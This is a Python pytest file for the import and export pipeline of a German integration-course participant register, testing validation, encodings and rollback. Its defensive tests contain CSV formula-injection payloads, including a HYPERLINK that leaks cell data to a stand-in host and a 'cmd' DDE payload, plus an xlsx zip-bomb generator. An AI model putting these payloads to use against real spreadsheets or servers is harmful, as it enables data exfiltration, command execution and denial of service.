"""Import and export of participants, courses and contacts: every failure writes nothing."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook
from sqlalchemy import func
from sqlmodel import Session, select

from pipeline.exporting import export_courses, export_participants
from pipeline.importing import ImportFailed, import_contacts, import_courses, import_participants
from pipeline.repository import state_of
from pipeline.tables import Agency, Contact, Course, Participant, Region, StageChange
from pipeline.tabular import TableError
from process_models import ProcessModel, load_model
from tests.factories import make_region

TODAY = date(2026, 11, 20)
MAX = 20_000_000
HEADER = "ref,nachname,vorname,geburtsjahr,email,telefon,plz,stage,berechtigt_am,verpflichtet_durch,verpflichtet_am,angemeldet_am,kurstraeger,kursbeginn,kursart,kinderbetreuung,teilzeit"
ROWS = [
    "BA-001,Haddad,Rania,1991,rania.haddad@mail.example,0151 2345678,96047,Angemeldet,2026-05-04,JC,2026-05-04,2026-10-12,VHS-BA,2026-11-23,general,ja,nein",
    "BA-002,Kovalenko,Olena,1987,,,96050,entitled,2026-09-01,,,,,,,nein,ja",
    "BA-003,Rahimi,Navid,2001,,,96052,Im Kurs,2026-01-12,ABH,2026-01-10,2026-02-02,BFZ-BA,2026-03-02,literacy,,",
]


@pytest.fixture(scope="module")
def model() -> ProcessModel:
    return load_model()


@pytest.fixture
def region(session: Session) -> Region:
    return make_region(session)


def write(path: Path, lines: list[str], encoding: str = "utf-8") -> Path:
    path.write_bytes(("\n".join(lines) + "\n").encode(encoding))
    return path


def run_import(session: Session, path: Path, region: Region, model: ProcessModel, **kwargs: int) -> str:
    result = import_participants(
        session=session, path=path, region=region, model=model, today=TODAY, max_bytes=kwargs.get("max_bytes", MAX)
    )
    session.commit()
    return result.summary()


def count(session: Session, table: type) -> int:
    return session.exec(select(func.count()).select_from(table)).one()


def test_utf8_csv_creates_participants_with_state_and_steps(
    session: Session, region: Region, model: ProcessModel, tmp_path: Path
) -> None:
    summary = run_import(session, write(tmp_path / "p.csv", [HEADER, *ROWS]), region, model)
    assert summary == "3 Zeilen: 3 neu, 0 aktualisiert, 0 unverändert"
    rania = session.exec(select(Participant).where(Participant.ref == "BA-001")).one()
    assert (rania.stage, rania.stage_since, rania.childcare, rania.part_time) == (
        "registered",
        date(2026, 10, 12),
        True,
        False,
    )
    facts = state_of(rania, model).facts
    assert facts["registered_on"] == date(2026, 10, 12) and facts["assigned_on"] == date(2026, 10, 12)
    assert facts["expected_start"] == date(2026, 11, 23)  # kursbeginn before the course is the expected start
    assert rania.next_step == "course_start" and rania.next_due == date(2026, 11, 23)
    navid = session.exec(select(Participant).where(Participant.ref == "BA-003")).one()
    assert state_of(navid, model).facts["course_started_on"] == date(2026, 3, 2)
    assert navid.next_step == "graduate_management"
    assert count(session, StageChange) == 3


def test_excel_windows_1252_semicolon_dialect(
    session: Session, region: Region, model: ProcessModel, tmp_path: Path
) -> None:
    lines = [
        HEADER.replace(",", ";").replace("nachname", "Nachname").replace("kurstraeger", "Kursträger"),
        "BA-010;Müller-Öztürk;Ayşe;1990;;;96047;Verpflichtet;;SOZ;2026-10-01;;;;;;",
    ]
    path = tmp_path / "excel.csv"
    path.write_bytes(("\r\n".join(lines) + "\r\n").encode("cp1252", errors="replace"))
    assert run_import(session, path, region, model).startswith("1 Zeilen: 1 neu")
    person = session.exec(select(Participant)).one()
    assert person.last_name == "Müller-Öztürk"
    assert person.stage == "obliged"


def test_xlsx_with_real_dates(session: Session, region: Region, model: ProcessModel, tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(
        ["Ref", "Vorname", "Nachname", "Stufe", "angemeldet_am", "kurstraeger", "verpflichtet_durch", "verpflichtet_am"]
    )
    sheet.append(["BA-020", "Omar", "Nasser", "Angemeldet", date(2026, 10, 1), "VHS-BA", "JC", date(2026, 9, 15)])
    workbook.save(tmp_path / "p.xlsx")
    assert run_import(session, tmp_path / "p.xlsx", region, model).startswith("1 Zeilen: 1 neu")
    assert state_of(session.exec(select(Participant)).one(), model).facts["registered_on"] == date(2026, 10, 1)


def test_reimport_updates_and_never_duplicates(
    session: Session, region: Region, model: ProcessModel, tmp_path: Path
) -> None:
    path = write(tmp_path / "p.csv", [HEADER, *ROWS])
    run_import(session, path, region, model)
    assert run_import(session, path, region, model) == "3 Zeilen: 0 neu, 0 aktualisiert, 3 unverändert"
    changed = (
        ROWS[1]
        .replace("entitled,2026-09-01", "Verpflichtet,2026-09-01")
        .replace(",,,,,,,nein,ja", ",JC,2026-10-05,,,,,nein,ja")
    )
    assert (
        run_import(session, write(tmp_path / "p2.csv", [HEADER, changed]), region, model)
        == "1 Zeilen: 0 neu, 1 aktualisiert, 0 unverändert"
    )
    assert count(session, Participant) == 3
    olena = session.exec(select(Participant).where(Participant.ref == "BA-002")).one()
    assert olena.stage == "obliged"
    history = session.exec(
        select(StageChange).where(StageChange.participant_id == olena.id).order_by(StageChange.id)
    ).all()  # type: ignore[arg-type]
    assert [(h.event, h.from_stage, h.to_stage) for h in history] == [
        ("import", None, "entitled"),
        ("import", "entitled", "obliged"),
    ]


def test_partial_file_keeps_columns_it_does_not_carry(
    session: Session, region: Region, model: ProcessModel, tmp_path: Path
) -> None:
    run_import(session, write(tmp_path / "p.csv", [HEADER, *ROWS]), region, model)
    run_import(
        session,
        write(
            tmp_path / "short.csv", ["ref,nachname,vorname,stage,telefon", "BA-001,Haddad,Rania,Angemeldet,0911 555"]
        ),
        region,
        model,
    )
    rania = session.exec(select(Participant).where(Participant.ref == "BA-001")).one()
    assert (rania.phone, rania.email, rania.childcare) == ("0911 555", "rania.haddad@mail.example", True)
    assert state_of(rania, model).facts["provider"] == "VHS-BA"


@pytest.mark.parametrize(
    ("lines", "expected"),
    [
        (["ref,vorname,stage", "X-1,A,recorded"], "Zeile 1, Spalte 'nachname': Pflichtspalte fehlt"),
        ([HEADER + ",lieblingsfarbe", ROWS[0] + ",blau"], "Zeile 1, Spalte 'lieblingsfarbe': unbekannte Spalte"),
        (
            [HEADER, ROWS[0].replace("2026-10-12", "31.02.2026")],
            "Zeile 2, Spalte 'angemeldet_am', Wert '31.02.2026': '31.02.2026' ist kein Datum",
        ),
        (
            [HEADER, ROWS[0].replace("rania.haddad@mail.example", "rania.haddad@@mail")],
            "Zeile 2, Spalte 'email', Wert 'rania.haddad@@mail': keine gültige E-Mail-Adresse",
        ),
        (
            [HEADER, ROWS[0].replace("Angemeldet", "Wartend")],
            "Zeile 2, Spalte 'stage', Wert 'Wartend': unbekannte Stufe",
        ),
        (
            [HEADER, ROWS[0], ROWS[1], ROWS[0]],
            "Zeile 4, Spalte 'ref', Wert 'BA-001': Referenz kommt doppelt vor (zuerst in Zeile 2)",
        ),
        (
            [HEADER, ROWS[0].replace("VHS-BA", "VHS-XY")],
            "Zeile 2, Spalte 'kurstraeger', Wert 'VHS-XY': Kursträger ist in dieser Region nicht angelegt",
        ),
        (
            [HEADER, ROWS[0].replace(",2026-10-12,VHS-BA", ",,VHS-BA")],
            "Zeile 2, Spalte 'angemeldet_am': für die Stufe „Angemeldet“ erforderlich",
        ),
        (
            [HEADER, ROWS[0].replace("1991", "91")],
            "Zeile 2, Spalte 'geburtsjahr', Wert '91': kein gültiges Geburtsjahr",
        ),
        (
            [HEADER, ROWS[0].replace("96047", "9604")],
            "Zeile 2, Spalte 'plz', Wert '9604': Postleitzahl muss fünfstellig sein",
        ),
        (
            [HEADER, ROWS[0].replace("2026-05-04,JC", "2027-05-04,JC")],
            "Zeile 2, Spalte 'berechtigt_am', Wert '2027-05-04': Datum liegt in der Zukunft",
        ),
        (
            [HEADER, ROWS[0].replace(",ja,nein", ",vielleicht,nein")],
            "Zeile 2, Spalte 'kinderbetreuung', Wert 'vielleicht': 'vielleicht' ist kein Ja/Nein-Wert",
        ),
    ],
)
def test_malformed_rows_are_reported_and_nothing_is_written(
    session: Session, region: Region, model: ProcessModel, tmp_path: Path, lines: list[str], expected: str
) -> None:
    with pytest.raises(ImportFailed) as info:
        run_import(session, write(tmp_path / "bad.csv", lines), region, model)
    session.rollback()
    assert any(str(error).startswith(expected) for error in info.value.errors), info.value.report()
    assert count(session, Participant) == 0 and count(session, StageChange) == 0


def test_one_bad_row_among_good_ones_writes_nothing(
    session: Session, region: Region, model: ProcessModel, tmp_path: Path
) -> None:
    lines = [HEADER, *ROWS, ROWS[2].replace("BA-003", "BA-004").replace("2026-03-02", "März")]
    with pytest.raises(ImportFailed) as info:
        run_import(session, write(tmp_path / "bad.csv", lines), region, model)
    session.rollback()
    assert len(info.value.errors) == 1 and info.value.errors[0].row == 5
    assert count(session, Participant) == 0


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"", "Die Datei ist leer"),
        (b"   \n\n", "Die Datei ist leer"),
        (HEADER.encode() + b"\n", "keine Datenzeilen"),
        # UTF-16 without a byte order mark (with one it is read: test_every_supported_encoding_…)
        ("\n".join([HEADER, ROWS[0]]).encode("utf-16-le"), "UTF-16 ohne Byte-Order-Mark"),
        (b"PK\x03\x04binary", "Excel-Arbeitsmappe"),
    ],
)
def test_unreadable_files(
    session: Session, region: Region, model: ProcessModel, tmp_path: Path, content: bytes, expected: str
) -> None:
    path = tmp_path / "f.csv"
    path.write_bytes(content)
    with pytest.raises(TableError, match=expected):
        run_import(session, path, region, model)
    assert count(session, Participant) == 0


def test_a_50_mb_file_is_refused_before_reading(
    session: Session, region: Region, model: ProcessModel, tmp_path: Path
) -> None:
    path = tmp_path / "huge.csv"
    row = ROWS[1] + "\n"
    with path.open("w", encoding="utf-8") as handle:
        handle.write(HEADER + "\n")
        for number in range(50_000_000 // len(row) + 1):
            handle.write(row.replace("BA-002", f"BA-{number:07d}"))
    assert path.stat().st_size > 50_000_000
    with pytest.raises(TableError, match=r"Datei ist zu groß \(5\d\.\d MB; höchstens 20 MB\)"):
        run_import(session, path, region, model)
    assert count(session, Participant) == 0


def test_wrong_file_type(session: Session, region: Region, model: ProcessModel, tmp_path: Path) -> None:
    (tmp_path / "p.pdf").write_bytes(b"%PDF")
    with pytest.raises(TableError, match=r"Dateityp '\.pdf' wird nicht unterstützt"):
        run_import(session, tmp_path / "p.pdf", region, model)


def test_reference_of_another_region_is_refused(
    session: Session, region: Region, model: ProcessModel, tmp_path: Path
) -> None:
    run_import(session, write(tmp_path / "p.csv", [HEADER, ROWS[1]]), region, model)
    other = make_region(session, "BY-PA", "Stadt Passau")
    with pytest.raises(ImportFailed, match="1 Fehler") as info:
        run_import(session, write(tmp_path / "p.csv", [HEADER, ROWS[1]]), other, model)
    assert "Referenz gehört zu einer anderen Region" in info.value.report()


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_participants_round_trip(session: Session, model: ProcessModel, tmp_path: Path, suffix: str) -> None:
    """export → import into an empty region → export again gives the identical file."""
    from foerderkette.demo import generate_demo
    from process_models import ModelCatalog

    engine = session.get_bind()
    session.close()
    generate_demo(engine=engine, catalog=ModelCatalog(None), participants=300, regions=1, seed=7, as_of=TODAY)  # type: ignore[arg-type]
    with Session(engine) as source:
        demo_region = source.exec(select(Region).where(Region.code == "BY-BA")).one()
        first = tmp_path / f"first{suffix}"
        assert export_participants(session=source, region=demo_region, model=model, path=first) == 300
        before = {
            p.ref: (p.stage, p.stage_since, p.state, p.open_steps, p.email, p.childcare)
            for p in source.exec(select(Participant)).all()
        }
        # a fresh region with the same providers
        target = Region(code="BY-XX", name="Kopie", land="BY")
        source.add(target)
        source.flush()
        for agency in source.exec(select(Agency).where(Agency.region_id == demo_region.id)).all():
            source.add(Agency(region_id=target.id, code=agency.code, type=agency.type, name=agency.name))  # type: ignore[arg-type]
        source.commit()
        # re-import into the same region changes nothing
        again = import_participants(
            session=source, path=first, region=demo_region, model=model, today=TODAY, max_bytes=MAX
        )
        assert again.unchanged == 300
        source.rollback()
        # into a fresh database state: delete and import back
        source.exec(Participant.__table__.delete())  # type: ignore[call-overload, attr-defined]
        source.commit()
        created = import_participants(
            session=source, path=first, region=demo_region, model=model, today=TODAY, max_bytes=MAX
        )
        source.commit()
        assert created.created == 300
        second = tmp_path / f"second{suffix}"
        export_participants(session=source, region=demo_region, model=model, path=second)
        after = {
            p.ref: (p.stage, p.stage_since, p.state, p.open_steps, p.email, p.childcare)
            for p in source.exec(select(Participant)).all()
        }
    assert after == before
    if suffix == ".csv":
        assert first.read_bytes() == second.read_bytes()
        _assert_german(first, model)
    else:
        from openpyxl import load_workbook

        rows = [
            [list(row) for row in load_workbook(path).active.iter_rows(values_only=True)] for path in (first, second)
        ]  # type: ignore[union-attr]
        assert rows[0] == rows[1]


def _assert_german(path: Path, model: ProcessModel) -> None:
    """Column names and values are German: labels, ja/nein, no identifiers of the model."""
    text = path.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(text.splitlines(), delimiter=";" if ";" in text.splitlines()[0] else ","))
    header, body = rows[0], rows[1:]
    # only a fact whose label is taken by a column of its own keeps its identifier (Kursbeginn)
    english = [name for name in header if name in model.facts or name in ("stage", "birth_year")]
    assert english in ([], ["course_started_on"]), english
    assert "verpflichtende_stellen" in header and "grund_der_schliessung" in header
    values = {cell for row in body for cell in row}
    identifiers = {*model.stages, *model.course_types, "True", "False", "good", "limited", "completed", "full_time"}
    for value_set in model.value_sets.values():
        identifiers |= {key for key, label in value_set.values.items() if key != label}
    assert not values & identifiers, sorted(values & identifiers)
    column = header.index("stufe")
    assert {row[column] for row in body} <= {spec.label for spec in model.stages.values()}


def test_courses_import_validates_and_round_trips(
    session: Session, region: Region, model: ProcessModel, tmp_path: Path
) -> None:
    header = "kurs;kurstraeger;art;kursart;format;ort;plz;beginn_geplant;beginn;ende;plaetze;mindestgroesse"
    good = [
        header,
        "VHS-GEN-2601;VHS-BA;Integrationskurs;Allgemeiner Integrationskurs;Vollzeit;Bamberg;96047;2026-01-12;2026-01-12;2026-08-14;25;15",
        "BFZ-ALPHA-2602;BFZ-BA;ik;literacy;mit Kinderbetreuung;Hallstadt;96103;2027-02-01;;2027-12-17;16;10",
        "BFZ-B2-2603;BFZ-BA;bsk;B2;Teilzeit;Bamberg;;2027-03-01;;;20;15",
    ]
    path = write(tmp_path / "kurse.csv", good)
    result = import_courses(session=session, path=path, region=region, model=model, max_bytes=MAX)
    session.commit()
    assert (result.created, result.updated) == (3, 0)
    assert import_courses(session=session, path=path, region=region, model=model, max_bytes=MAX).unchanged == 3
    alpha = session.exec(select(Course).where(Course.code == "BFZ-ALPHA-2602")).one()
    assert (alpha.course_type, alpha.format, alpha.capacity, alpha.min_size) == ("literacy", "childcare", 16, 10)
    export_courses(session=session, region=region, model=load_model(), path=tmp_path / "out.csv")
    session.exec(Course.__table__.delete())  # type: ignore[call-overload, attr-defined]
    session.commit()
    session.expunge_all()
    assert (
        import_courses(session=session, path=tmp_path / "out.csv", region=region, model=model, max_bytes=MAX).created
        == 3
    )
    session.commit()
    export_courses(session=session, region=region, model=load_model(), path=tmp_path / "out2.csv")
    assert (tmp_path / "out.csv").read_bytes() == (tmp_path / "out2.csv").read_bytes()
    exported = (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    assert "Alphabetisierungskurs" in exported and "mit Kinderbetreuung" in exported and "Berufssprachkurs" in exported
    assert ",literacy," not in exported and ",childcare," not in exported and ",bsk," not in exported
    bad = [header, good[1].replace("25;15", "30;15"), good[2].replace("BFZ-BA", "XYZ"), good[3].replace(";B2;", ";B3;")]
    with pytest.raises(ImportFailed) as info:
        import_courses(
            session=session, path=write(tmp_path / "bad.csv", bad), region=region, model=model, max_bytes=MAX
        )
    report = info.value.report()
    assert "Zeile 2, Spalte 'plaetze', Wert '30': höchstens 25 Teilnehmende" in report
    assert "Zeile 3, Spalte 'kurstraeger', Wert 'XYZ': Kursträger ist in dieser Region nicht angelegt" in report
    assert "Zeile 4, Spalte 'kursart', Wert 'B3'" in report


def test_contacts_import_creates_agencies_and_rejects_bad_addresses(
    session: Session, model: ProcessModel, tmp_path: Path
) -> None:
    region = make_region(session, contacts=False)
    lines = [
        "stelle,stelle_typ,stelle_name,name,email,rolle",
        "JC-BA,,,Anna Huber,anna.huber@jobcenter.bamberg.example,Sachbearbeitung",
        "CAR-BA,KT,Caritas-Sprachschule Bamberg,Thomas Bauer,thomas.bauer@caritas.bamberg.example,Leitung",
    ]
    result = import_contacts(
        session=session, path=write(tmp_path / "k.csv", lines), region=region, model=model, max_bytes=MAX
    )
    session.commit()
    assert result.created == 2
    assert session.exec(select(Agency).where(Agency.code == "CAR-BA")).one().type == "KT"
    bad = [
        lines[0],
        "JC-BA,,,Anna Huber,anna.huber(at)jobcenter.example,Sachbearbeitung",
        "NEU-BA,,,Max,max@neu.example,",
    ]
    with pytest.raises(ImportFailed) as info:
        import_contacts(
            session=session, path=write(tmp_path / "bad.csv", bad), region=region, model=model, max_bytes=MAX
        )
    report = info.value.report()
    assert "Zeile 2, Spalte 'email', Wert 'anna.huber(at)jobcenter.example': keine gültige E-Mail-Adresse" in report
    assert "Zeile 3, Spalte 'stelle', Wert 'NEU-BA': neue Stelle: stelle_typ und stelle_name angeben" in report
    session.rollback()
    assert count(session, Contact) == 2


def test_error_report_can_be_written_as_csv(tmp_path: Path) -> None:
    from pipeline.importing import RowError
    from pipeline.tabular import write_table

    errors = [RowError(2, "email", "x@@y", "keine gültige E-Mail-Adresse")]
    write_table(
        tmp_path / "errors.csv",
        ["zeile", "spalte", "wert", "fehler"],
        ([e.row, e.column, e.value, e.reason] for e in errors),
    )
    with (tmp_path / "errors.csv").open(encoding="utf-8-sig") as handle:
        assert list(csv.reader(handle, delimiter=";")) == [
            ["zeile", "spalte", "wert", "fehler"],
            ["2", "email", "x@@y", "keine gültige E-Mail-Adresse"],
        ]


FORMULAS = ['=HYPERLINK("http://boese.example/?"&A1,"Klick")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_exports_never_write_a_formula_and_round_trip_the_value(
    session: Session, region: Region, model: ProcessModel, tmp_path: Path, suffix: str
) -> None:
    """Issue 20 (finding 9, OWASP CSV injection): formula-like names are written as text."""
    from openpyxl import load_workbook

    rows = [
        f'BA-10{n},"{value.replace(chr(34), chr(34) * 2)}",-Anna,1990,,,96047,entitled,2026-09-01,,,,,,,,'
        for n, value in enumerate(FORMULAS)
    ]
    run_import(session, write(tmp_path / "f.csv", [HEADER, *rows]), region, model)
    path = tmp_path / f"export{suffix}"
    export_participants(session=session, region=region, model=model, path=path)
    if suffix == ".csv":
        cells = [
            cell for record in csv.reader(path.read_text("utf-8-sig").splitlines(), delimiter=";") for cell in record
        ]
    else:
        workbook = load_workbook(path)
        sheet = workbook.worksheets[0]
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        cells = [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert "'" + FORMULAS[0] in cells and "'-Anna" in cells
    for participant in session.exec(select(Participant)).all():
        session.delete(participant)
    session.commit()
    run_import(session, path, region, model)  # the export is re-importable and gives back the value
    names = {p.last_name for p in session.exec(select(Participant)).all()}
    assert names == set(FORMULAS)
    assert {p.first_name for p in session.exec(select(Participant)).all()} == {"-Anna"}


def test_a_control_character_is_refused_at_import_and_never_breaks_an_export(
    session: Session, region: Region, model: ProcessModel, tmp_path: Path
) -> None:
    """Issue 20 (finding 9): `Erika\\x07` made the whole region's .xlsx export fail."""
    bad = ROWS[1].replace("Olena", "Olena\x07")
    with pytest.raises(ImportFailed) as info:
        run_import(session, write(tmp_path / "c.csv", [HEADER, ROWS[0], bad]), region, model)
    session.rollback()
    # a clear per-cell error (issue 21), with the place
    assert [str(e) for e in info.value.errors] == [
        "Zeile 3, Spalte 'vorname', Wert 'Olena\ufffd': Steuerzeichen 0x07 nicht erlaubt"
    ]
    assert count(session, Participant) == 0
    run_import(session, write(tmp_path / "ok.csv", [HEADER, ROWS[1]]), region, model)
    olena = session.exec(select(Participant)).one()
    olena.first_name = "Erika\x07"  # stored by an older version or another way in
    session.add(olena)
    session.commit()
    for suffix in (".xlsx", ".csv"):
        path = tmp_path / f"export{suffix}"
        assert export_participants(session=session, region=region, model=model, path=path) == 1
    assert "Erika\ufffd" in (tmp_path / "export.csv").read_text("utf-8-sig")


NAME = "Müßig-Çelik"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16"])
def test_every_supported_encoding_is_read_for_the_whole_file(
    session: Session, region: Region, model: ProcessModel, tmp_path: Path, encoding: str
) -> None:
    """Issue 21: UTF-8 with or without BOM, Windows-1252, UTF-16 with BOM – decided per file."""
    path = write(tmp_path / "p.csv", [HEADER, ROWS[1].replace("Kovalenko", NAME)], encoding)
    assert "1 neu" in run_import(session, path, region, model)
    assert session.exec(select(Participant)).one().last_name == NAME


def test_one_bad_byte_in_a_utf8_file_is_refused_with_its_place_not_read_as_windows_1252(
    session: Session, region: Region, model: ProcessModel, tmp_path: Path
) -> None:
    """Issue 21: one non-UTF-8 byte made a whole UTF-8 file decode as Windows-1252
    ("MÃ¼ÃŸig-Ã‡elik"); now the file is refused, naming line and byte."""
    data = ("\n".join([HEADER, ROWS[0], ROWS[1].replace("Kovalenko", NAME)]) + "\n").encode()
    data = data.replace(b"Olena", b"Ol\xe9na")  # one Windows-1252 byte in a UTF-8 file
    path = tmp_path / "mixed.csv"
    path.write_bytes(data)
    with pytest.raises(TableError) as info:
        run_import(session, path, region, model)
    session.rollback()
    assert "als UTF-8 gespeichert" in str(info.value)
    line = ROWS[1].replace("Kovalenko", NAME).encode()
    assert f"Zeile 3, Byte {line.index(b'Olena') + 3}" in str(info.value) and "0xe9" in str(info.value)
    assert count(session, Participant) == 0
    # a byte that is in no supported encoding at all
    path.write_bytes(("\n".join([HEADER, ROWS[1]]) + "\n").encode().replace(b"Olena", b"Ol\x81na"))
    with pytest.raises(TableError, match=r"weder UTF-8 noch Windows-1252 \(Zeile 2, Byte \d+, Byte 0x81\)"):
        run_import(session, path, region, model)


def test_a_nul_byte_anywhere_is_a_per_cell_error_on_both_databases(
    session: Session, region: Region, model: ProcessModel, tmp_path: Path
) -> None:
    """Issue 21: a NUL after the first 4 KiB was stored on SQLite and a traceback on PostgreSQL."""
    filler = [ROWS[1].replace("BA-002", f"BA-{n:04d}") for n in range(100, 160)]
    lines = [HEADER, *filler, ROWS[1].replace("Olena", "Ole\x00na")]
    path = write(tmp_path / "nul.csv", lines)
    assert path.stat().st_size > 4096
    with pytest.raises(ImportFailed) as info:
        run_import(session, path, region, model)
    session.rollback()
    assert [str(e) for e in info.value.errors] == [
        f"Zeile {len(lines)}, Spalte 'vorname', Wert 'Ole\ufffdna': Steuerzeichen 0x00 nicht erlaubt"
    ]
    assert count(session, Participant) == 0


def test_a_long_value_is_cut_in_every_message(
    session: Session, region: Region, model: ProcessModel, tmp_path: Path
) -> None:
    long_name = "A" * 100_000
    path = write(tmp_path / "long.csv", [HEADER, ROWS[1].replace("Olena", long_name)])
    with pytest.raises(ImportFailed) as info:
        run_import(session, path, region, model)
    session.rollback()
    message = info.value.report()
    assert "höchstens 120 Zeichen" in message and "(100.000 Zeichen)" in message
    assert len(message) < 400


def test_a_stage_reached_in_the_future_is_refused(
    session: Session, region: Region, model: ProcessModel, tmp_path: Path
) -> None:
    """Issue 21: `stufe_seit` 2099-01-01 was accepted; the day a stage was reached is past."""
    lines = [HEADER + ",stufe_seit", ROWS[1] + ",2099-01-01"]
    with pytest.raises(ImportFailed) as info:
        run_import(session, write(tmp_path / "future.csv", lines), region, model)
    session.rollback()
    assert [str(e) for e in info.value.errors] == [
        "Zeile 2, Spalte 'stufe_seit', Wert '2099-01-01': Datum liegt in der Zukunft"
    ]


def _zip_bomb(path: Path, *, rows: int = 0, cell: int = 0) -> Path:
    """An .xlsx whose sheet unpacks to `rows` rows or one cell of `cell` characters."""
    import zipfile

    content_types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
    )
    workbook = (
        '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
        '<sheet name="Daten" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
    )
    root_rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'officeDocument" Target="xl/workbook.xml"/></Relationships>'
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", root_rels)
        archive.writestr("xl/workbook.xml", workbook)
        archive.writestr("xl/_rels/workbook.xml.rels", rels)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(
                b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>ref</t></is></c></row>'
            )
            row = b'<row><c t="inlineStr"><is><t>BA-1</t></is></c></row>'
            for _ in range(rows // 1000):
                sheet.write(row * 1000)
            if cell:
                sheet.write(b'<row><c t="inlineStr"><is><t>')
                for _ in range(cell // 1_000_000):
                    sheet.write(b"A" * 1_000_000)
                sheet.write(b"</t></is></c></row>")
            sheet.write(b"</sheetData></worksheet>")
    return path


@pytest.mark.parametrize(("rows", "cell"), [(1_000_000, 0), (0, 2_000_000_000)])
def test_an_xlsx_zip_bomb_is_refused_in_under_two_seconds(
    session: Session, region: Region, model: ProcessModel, tmp_path: Path, rows: int, cell: int
) -> None:
    """Issue 21: a 1.4 MB file unpacking to 1M rows ran 166 s at 1.39 GB; one 2 GB cell ended in
    MemoryError. Now the archive's directory and one streamed pass over the sheet refuse them."""
    import time

    path = _zip_bomb(tmp_path / "bomb.xlsx", rows=rows, cell=cell)
    assert path.stat().st_size < 5_000_000
    started = time.perf_counter()
    with pytest.raises(TableError, match="Nichts importiert") as info:
        run_import(session, path, region, model)
    elapsed = time.perf_counter() - started
    assert elapsed < 2.0, elapsed
    assert ("mehr als 250.000 Zeilen" if rows else "entpackt zu groß") in str(info.value)
    session.rollback()
    assert count(session, Participant) == 0
